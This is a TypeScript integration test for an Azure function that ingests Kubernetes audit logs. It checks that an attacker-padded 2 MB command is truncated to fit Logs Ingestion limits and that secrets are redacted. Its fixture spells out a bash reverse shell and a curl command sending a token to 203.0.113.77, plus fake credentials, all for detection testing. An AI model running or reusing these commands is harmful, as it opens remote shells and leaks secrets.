import { InvocationContext } from '@azure/functions';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEventHubHandler } from '../../src/azure/event-hub-handler.js';
import { FINDING_SCHEMA } from '../../src/findings/schema.js';
import { aksRecord, auditEvent, cronJobBody, podSpec } from '../helpers/audit.js';
import { runtimeFor, startAzureFakes, type AzureFakes } from '../helpers/azure-env.js';

let fakes: AzureFakes;
beforeAll(async () => {
  fakes = await startAzureFakes();
}, 60_000);
afterAll(async () => {
  await fakes.stop();
});

const REVERSE_SHELL = 'bash -i >& /dev/tcp/203.0.113.77/4444 0>&1';
const TOKEN = 'ghp_R8x2Lq9vT4mN7pK3wZ6yB1cD5fG0hJ2sA4eU';

describe('a padded record through the real Logs Ingestion client', () => {
  it('gives an accepted row for a 2 MB command line, cut around the reverse shell, secrets redacted', async () => {
    // An attacker pads the command so that the row would exceed the 1 MB a Logs Ingestion call accepts.
    const padding = `echo ${'x'.repeat(2 * 1024 * 1024)}`;
    const command = `${padding}; curl -H "Authorization: token ${TOKEN}" https://203.0.113.77/m; ${REVERSE_SHELL}`;
    const event = auditEvent({
      requestObject: cronJobBody(
        podSpec({
          image: 'registry.contoso.example/tools/runner:1.4',
          command: ['/bin/sh', '-c', command],
          env: [{ name: 'DB_PASSWORD', value: 'Winter2026!prod' }],
        }),
      ),
    });
    const body = Buffer.from(JSON.stringify({ records: [aksRecord(event)] }));
    expect(body.length).toBeGreaterThan(2 * 1024 * 1024);
    fakes.ingestion.rows.length = 0;

    const logs: string[] = [];
    const context = new InvocationContext({
      invocationId: '0d1e2f3a-4b5c-4d6e-8f70-8192a3b4c5d6',
      functionName: 'aksAudit',
      logHandler: (_level, ...args) => logs.push(args.map(String).join(' ')),
    });
    await createEventHubHandler(await runtimeFor(fakes, { env: { ENRICHMENT_ENABLED: 'false' } }))(
      [body],
      context,
    );

    expect(fakes.ingestion.violations).toEqual([]);
    const deadLettered = [];
    for await (const blob of fakes.deadLetter.listBlobsFlat()) deadLettered.push(blob.name);
    expect(deadLettered).toEqual([]);
    expect(fakes.ingestion.rows).toHaveLength(1);
    const row = fakes.ingestion.rows[0] as Record<string, unknown>;
    expect(Buffer.byteLength(JSON.stringify(row))).toBeLessThan(FINDING_SCHEMA.rowMaxBytes);
    const truncated = row['Truncated'] as Record<string, number>;
    expect(truncated['RawRecord']).toBeGreaterThan(2 * 1024 * 1024);
    expect(truncated['Indicators']).toBeGreaterThan(2 * 1024 * 1024);
    expect(row['RawRecordTruncated']).toBe(true);
    for (const column of ['Indicators', 'RawRecord']) {
      const value = row[column];
      const text = typeof value === 'string' ? value : JSON.stringify(value);
      expect(Buffer.byteLength(JSON.stringify(row[column])), column).toBeLessThanOrEqual(
        FINDING_SCHEMA.columnMaxBytes,
      );
      expect(text, column).toMatch(/…\[2,\d{3},\d{3} bytes cut\]…/);
      expect(text, column).not.toContain(TOKEN);
      expect(text, column).not.toContain('Winter2026!prod');
    }
    const indicators = row['Indicators'] as { matched: { indicator_command: { command: string } } };
    expect(indicators.matched.indicator_command.command).toContain(REVERSE_SHELL);
    // In the record's text the audit log is JSON inside JSON: the shell is there, escaped twice.
    const log = (JSON.parse(row['RawRecord'] as string) as { properties: { log: string } }).properties.log;
    expect(log).toContain(REVERSE_SHELL);
    expect(log).toContain('"name":"DB_PASSWORD","value":"[redacted:env:');
  }, 60_000);
});
